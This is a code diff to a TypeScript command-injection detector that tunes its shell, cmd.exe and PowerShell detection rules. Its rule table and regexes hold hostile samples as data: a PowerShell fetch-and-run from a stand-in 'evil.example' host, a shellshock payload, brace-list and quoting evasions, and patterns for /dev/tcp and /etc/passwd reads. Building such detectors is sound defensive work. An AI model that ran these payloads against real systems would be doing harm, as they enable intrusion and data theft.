@@ -18,7 +18,7 @@ const rule = rulesOf('command', {
   brace: [1, 5, 'a command in a brace list', '{cat,/etc/hosts}', '{a,b}'],
   windows: [1, 5, 'a command of Windows', '& dir c:\\', 'the dir is here'],
   powershell: [1, 5, 'a cmdlet of PowerShell that runs or fetches', 'Invoke-Expression (iwr http://evil.example)', 'an expression'],
-  loop: [1, 5, 'a FOR or IF of cmd.exe', 'FOR /F %a IN (x) DO cmd', 'for a in b'],
+  loop: [1, 5, 'a FOR or IF of cmd.exe', 'FOR /F %a IN (the list of files that you made for it) DO echo x', 'for a in b'],
   function: [1, 5, 'a function definition of a shell: shellshock, fork bombs', '() { :;}; /bin/sh', 'f() { return }'],
   redirect: [1, 5, 'output into a system directory', '>/tmp/x', 'a > b'],
   tilde: [3, 5, 'a tilde expansion', '~+', '~user'],
@@ -33,6 +33,7 @@ const WRAPPERS = wordSet('sudo time nohup env exec command builtin eval nice tim
 
 export function mayBeCommand (look: Look): boolean {
   const { chars, words, pairs } = look
+  if (look.on[rule.tilde.no] === 1 && (chars & C.CARET) !== 0) return true
   const commands = words & (K.SHELL | K.SHELL_SURE | K.WINDOWS)
   if (commands !== 0 && (chars & (C.SEMI | C.PIPE | C.AMP | C.BACKTICK | C.LINE | C.DOLLAR | C.BRACE | C.SLASH | C.GT | C.LT | C.PERCENT | C.QUOTE | C.DQUOTE | C.MINUS | C.BACKSLASH)) !== 0) return true
   if ((words & (K.SHELL_SURE | K.WINDOWS)) !== 0 && look.count < 12) return true
@@ -41,7 +42,7 @@ export function mayBeCommand (look: Look): boolean {
 }
 
 export function command (look: Look): void {
-  const { text, chars } = look
+  const { chars } = look
   const chatty = (look.place & place.CHATTY) !== 0
   if ((chars & C.PAREN) !== 0) signIf(look, rule.function, /(?:^|[\s;"'=])(?:\(\)|[:\w]+\s*\(\s*\))\s*\{\s*(?::|[\w:]+(?:\(\))?\s*[|&]|\w*\s*$|_;)|^\(\)\s*\{/)
   if (look.score < look.threshold) separators(look, chatty)
@@ -78,8 +79,10 @@ function read (text: string, at: number): number {
       const next = text.charCodeAt(i + 1)
       if (next === 64 || next === 42 || next === 33 || next === 63 || next === 36 || isDigit(next)) i += 2
       else if (next === 123 || next === 40) {
-        const end = text.indexOf(next === 123 ? '}' : ')', i)
-        if (end < 0 || end - i > 30) break
+        const close = next === 123 ? 125 : 41
+        let end = i + 2
+        while (end < i + 30 && end < text.length && text.charCodeAt(end) !== close) end++
+        if (text.charCodeAt(end) !== close) break
         if (/^\$\{?IFS/.test(text.slice(i, i + 6))) break
         i = end + 1
       } else if (next === 39 || next === 34) i++
@@ -98,7 +101,9 @@ function read (text: string, at: number): number {
 }
 
 /** Words that are whole commands. */
-const ALONE = wordSet('id ls ps who env set pwd dir ver net cat date w top df du free uptime last sleep ping reboot halt shutdown ip ss history groups host dig hash jobs mount vol exit')
+const ALONE = wordSet('id ls ps who env pwd dir ver net cat w df du uptime ip ss')
+/** Those that are also plain words: only right behind the separator. */
+const ALONE_TIGHT = wordSet('set top date free last sleep ping reboot halt shutdown history groups host dig hash jobs mount vol exit')
 
 /** What a command word is: 0 none, 1 also an English word, 2 surely a command. */
 function rank (word: string): number {
@@ -113,12 +118,16 @@ function rank (word: string): number {
   return 0
 }
 
+/** What a command must have to count in an article. */
+const ARTICLE = /\/etc\/|\/bin\/(?:ba)?sh|\/dev\/tcp|whoami|ifconfig|ipconfig|systeminfo/i
+
 /** Each separator: does a command follow? */
 function separators (look: Look, chatty: boolean): void {
   const { text } = look
   const table = /\|[^\n|]*\|[^\n|]*\|/.test(text.slice(0, 4000)) && text.includes('\n')
   const article = !brief(look)
   const lines = (look.place & (place.QUERY | place.FORM | place.COOKIE | place.HEADER | place.VALUE)) !== 0 && look.count < 30
+  if (article && !ARTICLE.test(text)) return
   const length = text.length
   for (let at = 0; at < length && look.score < look.threshold; at++) {
     const code = text.charCodeAt(at)
@@ -155,27 +164,33 @@ function skipSpaces (text: string, at: number): number {
   return at
 }
 
+/** Whether a command ends here. */
+function finishedAt (rest: string): boolean {
+  return /^\s*(?:$|[;|&`)<>\n"'}#%])/.test(rest)
+}
+
 function isCommand (look: Look, at: number, code: number, next: number, end: number, word: string, kind: number, tricks: number, double: boolean, chatty: boolean, article: boolean): boolean {
   const { text } = look
   const after = text.charCodeAt(end)
   const rest = text.slice(end, end + 60)
   // `&id=5` in a link, `; charset=utf-8` in a header, `;width:5px` in a style, `&amp;`.
   if (inFence(look, at, true)) return false
-  if (after === 61 || (after === 58 && code === 59) || (after === 59 && code === 38 && next === at + 1 && !double)) return false
+  if (after === 44 || after === 61 || (after === 58 && code === 59) || (after === 59 && code === 38 && next === at + 1 && !double)) return false
   if (after === 40 && code !== 10) return /^\(\s*\)?\s*$/.test(rest) ? false : kind === 2 && /^\(["']/.test(rest)
   if (code === 10 && (kind < 2 || article || !/^[ \t]*(?:$|[-/|;>&$"'~.]|https?:|\w+[./-])/.test(rest))) {
+    if (at < 3 && look.count <= 2 && finishedAt(rest) && ALONE.has(word.toLowerCase())) return true
     return !article && /^[ \t]+(?:-\w|\/\w)/.test(rest) && look.count < 12
   }
   if (chatty && (kind < 2 || !/^\s*(?:[-/|;>&$]|https?:|$)/.test(rest) || /\//.test(word))) return false
   const quoted = tricks > 0
-  const finished = /^\s*(?:$|[;|&`)<>\n"'}#%])/.test(rest)
-  const argued = /^(?:\s+|\$IFS|\$\{IFS|<|>|%09|%20)[{$]*(?:-{1,2}\w|[/.~$*?%"'`\\<>|]|https?:|\d|[\w-]*[./@:*?$][\w/]|[a-z]:|\/)/i.test(rest) || (kind === 2 && /^\s+[\w.-]+\s*(?:$|[;|&>`)])/.test(rest))
+  const finished = finishedAt(rest)
+  const argued = /^(?:\s+|\$IFS|\$\{IFS|<|>|%09|%20)[{$]*(?:-{1,2}\w|[/.~$*?%"'`\\<>]|https?:|\d|[\w-]*[./@:*?$][\w/]|[a-z]:|\/)/i.test(rest) || (kind === 2 && /^\s+[\w.-]+\s*(?:$|[;|&>`)])/.test(rest))
   if (article) {
     // In an article a separator followed by a command is nearly always shown code.
-    const strong = /(?:\/etc\/(?:passwd|shadow)|\/bin\/(?:ba)?sh|\/dev\/tcp)/.test(rest) || (/^(?:whoami|ifconfig|ipconfig|systeminfo)$/i.test(word) && finished)
+    const strong = /(?:\/etc\/\w|\/bin\/(?:ba)?sh|\/dev\/tcp)/.test(rest) || (/^(?:whoami|ifconfig|ipconfig|systeminfo)$/i.test(word) && finished)
     return strong && !/[\w,.]\s+\w+\s*$/.test(text.slice(Math.max(0, at - 30), at))
   }
-  if (kind === 1 && finished && !argued && !quoted && !ALONE.has(word.toLowerCase())) return false
+  if (kind === 1 && finished && !argued && !quoted && !ALONE.has(word.toLowerCase()) && !(next === at + 1 && ALONE_TIGHT.has(word.toLowerCase()))) return false
   if (kind === 2) return finished || argued || code !== 38 || double || quoted || /^\s/.test(rest)
   if (code === 38 && !double && next === at + 1 && !quoted && !argued) return finished && /^(?:id|ls|dir|pwd|ps|ver|net|whoami|set|env|w|sleep|ping|apt|aptitude)$/i.test(word) && text.length < 60 && !/[?&]\w+=/.test(text.slice(0, at))
   if (quoted) return finished || argued
@@ -235,7 +250,7 @@ const SENSITIVE = /\b(?:cat|tac|less|more|head|tail|nl|od|xxd|strings|grep|awk|s
 const SHELL = /(?:^|[\s;|&"'=(`/])(?:\/(?:usr\/(?:local\/)?)?s?bin\/[\w.-]+(?:\s|$|['"`)|;])|(?:ba|z|k|c|da|tc|fi)?sh\s+-c\b|(?:python[\d.]*|perl|ruby|php|node|lua|busybox)\s+(?:-\w*[ecr]\w*\s*['"(\w]|-m\s+http|-c\s)|\$\{?SHELL\}?\s+-c|cmd(?:\.exe)?\s*(?:\/[ck]|\^)|cmd\.exe|powershell(?:\.exe)?\s+(?:-\w+|[a-z]:|["'&]))|(?:\|\s*(?:ba|z|da|k)?sh\s*(?:$|[;#&"'`)]|\+?``|-))|<<<|\bIFS=|base64\s+(?:-d|--decode|-D)\b|\|\s*(?:xxd|rev|base64|tr\s)/i
 const POWERSHELL = /\b(?:Invoke-(?:Expression|WebRequest|RestMethod|Command|Item|Shellcode|Mimikatz|Method|WmiMethod)|IEX\s*[("'$]|Start-(?:Process|BitsTransfer|Job)|New-Object\s+(?:System\.)?(?:Net|IO|Diagnostics)|Download(?:String|File|Data)\s*\(|-(?:enc|encodedcommand)\s+[A-Za-z0-9+/=]{8,}|Get-(?:Content|ChildItem|Process|Service|WmiObject|Command|Host|Item)\b|Set-ExecutionPolicy|(?:iwr|irm)\s+(?:-\w+\s+)*['"]?https?:|\[System\.(?:Net|IO|Text|Diagnostics|Convert)|Add-Type|Net\.WebClient)/i
 const CMD = /\bFOR\s+(?:\/[FLDR]\s|%+\S+\s+IN\s*\()|\bIF\s+(?:\/I\s+)?(?:NOT\s+)?(?:EXIST\s|DEFINED\s|ERRORLEVEL\s|"?%|X%)|\b(?:certutil|bitsadmin|regsvr32|rundll32|mshta|wmic|schtasks|bcdboot)(?:\.exe)?\s+[-/\w%<\\]+|\bnet\s+(?:user|localgroup|group|share|use|view|start|stop)\b|\breg(?:edit)?(?:\.exe)?\s+(?:\/|add|query|delete|save)|%(?:comspec|systemroot|systemdrive|programfiles|appdata|temp|windir|userprofile|username|computername|os)(?:%|:)|\btype\s+(?:%|[a-z]:\\|\\)|\bdir\s+(?:[a-z]:[\\/]|\/[a-z]\b|%)|\becho\s+%\w+%|\bcopy\s+con\b|\battrib\s+[+-]|\bicacls\s|\bsc\s+(?:create|config|query)\b|\bping\s+-n\s+\d/i
-const INVOCATION = /^\s*(?:["'`]?\s*[;|&]*\s*)(?:wget|curl|lynx|fetch|ftp|tftp|scp|rsync)\s+(?:-{1,2}\S+\s+)*(?:['"]?(?:https?|ftp):\/\/|\S+\.(?:com|net|org|io|sh|COM)\b|\d{1,3}\.\d)|^\s*(?:ping|nslookup|dig|host|traceroute|tracert)\s+(?:-\w+\s+\d*\s*)*(?:\d{1,3}(?:\.\d{1,3}){3}|[\w.-]+\.\w{2,})\s*(?:$|[;|&#])|^\s*(?:chmod|chown)\s+(?:-\w+\s+)*[0-7+rwx]{2,}\s+\S|^\s*rm\s+-\w*[rf]|^\s*(?:uname|ifconfig|ipconfig|netstat|id|whoami|hostname|ps|pwd|env|printenv)(?:\s+-\w+)?\s*$|^\s*sleep\s+\d+\s*$|^\s*kill\s+'?-|^\s*(?:cat|ls|head|tail)\s+(?:-\w+\s+)?[/~.*]\S*\s*$|^\s*(?:ls|ps|uname|df|du|netstat)\s+-\w+\s*$|^\s*dd\s+if=/
+const INVOCATION = /^\s*(?:["'`]?\s*[;|&]*\s*)(?:wget|curl|lynx|fetch|ftp|tftp|scp|rsync)\s+(?:-{1,2}\S+\s+)*(?:['"]?(?:https?|ftp):\/\/|\S+\.(?:com|net|org|io|sh|COM)\b|\d{1,3}\.\d)|^\s*(?:ping|nslookup|dig|host|traceroute|tracert)\s+(?:-\w+\s+\d*\s*)*(?:\d{1,3}(?:\.\d{1,3}){3}|[\w.-]+\.\w{2,})\s*(?:$|[;|&#])|^\s*(?:chmod|chown)\s+(?:-\w+\s+)*[0-7+rwx]{2,}\s+\S|^\s*rm\s+-\w*[rf]|^\s*(?:ifconfig|ipconfig|netstat|whoami|printenv)(?:\s+-\w+)?\s*$|^\s*(?:uname|id|env|hostname)\s+-{1,2}\w+\s*$|^\s*sleep\s+\d+\s*$|^\s*kill\s+'?-|^\s*(?:cat|ls|head|tail)\s+(?:-\w+\s+)?[/~.*]\S*\s*$|^\s*(?:ls|ps|uname|df|du|netstat)\s+-\w+\s*$|^\s*dd\s+if=/
 
 /** Whole command lines, in texts that are short enough to be one. */
 function lines (look: Look): void {
@@ -256,12 +271,25 @@ function lines (look: Look): void {
     signIf(look, rule.alias, /(?:^|[;&|]\s*)alias\s+(?:[-+]\w+\s+)*[+\w"'.-]+\s*=\s*\S/)
   } else signIf(look, rule.loop, /\bFOR\s+\/[FLDR]\s+%|\bFOR\s+%+\S+\s+IN\s*\(/i)
   if ((words & (K.WINDOWS | K.SHELL_SURE)) !== 0) signIf(look, rule.powershell, POWERSHELL)
-  if ((look.place & (place.NAME | place.PATH)) === 0 || look.count < 8) signIf(look, rule.invocation, INVOCATION)
+  if ((look.place & (place.NAME | place.PATH)) === 0 || (look.count < 8 && look.count > 1)) signIf(look, rule.invocation, INVOCATION)
   if (prose) return
   // Braces: `{cat,/etc/hosts}`, `{,ifconfig,eth0}`.
   if ((look.chars & C.BRACE) !== 0 && !text.includes(':')) signIf(look, rule.brace, /(?:^|[\w;|&=("'\s])\{(?:,[\w#$"'./-]+[,}]|(?:cat|ls|l|id|cp|rm|nc|wget|curl|ping|echo|bash|sh|uname|n\$u)\b[^{}:]*,[^{}:]*\}|[\w/?*$.\\-]+,[-/][^{}]*\}|[\w/]*\?[\w/?]*,?\})/)
+  const first = WRAPPED.exec(text)
+  if (first !== null) {
+    read(text, first[0].length)
+    if (rank(readWord) > 0) sign(look, rule.wrapper, 0, first[0].length + readWord.length)
+  }
+  if (look.on[rule.single.no] === 1 && look.count <= 8 && (look.place & (place.HEADER | place.PATH | place.NAME)) === 0) {
+    const end = read(text, skipSpaces(text, 0))
+    const kind = rank(readWord)
+    if ((kind === 2 && /^\s+(?:[-/~.$\d]|\w+[./])/.test(text.slice(end))) || (kind === 1 && /^\s+[-/~.$]/.test(text.slice(end)))) sign(look, rule.single, 0, end)
+  }
+  signIf(look, rule.tilde, /^~[+-]?\d*$/)
   hidden(look)
 }
+
+const WRAPPED = /^\s*(?:nohup|strace|ltrace|timeout\s+\d+|setsid|busybox|sudo|env|xargs|stdbuf|ionice|flock\s+-u\s+\/|nice|time|exec|command)\s+(?=\S)/
 
 /** Words broken to pass a filter: `c'a't`, `w\\ho`, `/e?c/p*`, `$u` inside. */
 function hidden (look: Look): void {
@@ -269,12 +297,13 @@ function hidden (look: Look): void {
   if (look.count > 16) return
   if (/[?*[\]]/.test(text)) signIf(look, rule.hidden, /(?:^|[\s;|&=('"])\/(?:[\w?*[\]!]*[?*[][\w?*[\]!-]*\/[\w?*[\]!./-]+|(?:bin|etc|usr|var|proc)\/[\w/]*[?*[][\w?*[\]!-]*)/)
   if (!/[\\'"$`]/.test(text)) return
+  signIf(look, rule.hidden, /\w(?:``|\$\(\))|(?:\w?(?:""|'')\w){3}|(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?\s+[-\w/$]/i)
   let at = 0
   let tries = 0
   while (at < text.length && tries < 40) {
     const end = read(text, at)
     const plain = readWord
-    if (readTricks > 1 && /[\w/?]['"\\$`]/.test(text.slice(at, end)) && rank(plain) > 0 && /[a-z/]/.test(plain) && plain.length > 1) {
+    if (readTricks > 0 && /[\w/?]['"\\$`]/.test(text.slice(at, end)) && rank(plain) > 0 && /[a-z/]/.test(plain) && plain.length > 1) {
       const raw = text.slice(at, end)
       if (/\w(?:''|""|``|\\|\$[@*!?$\w({]|['"]\w+['"])\w?/.test(raw) && !/^["'][\w.-]+["']?$/.test(raw)) {
         sign(look, rule.hidden, at, end)
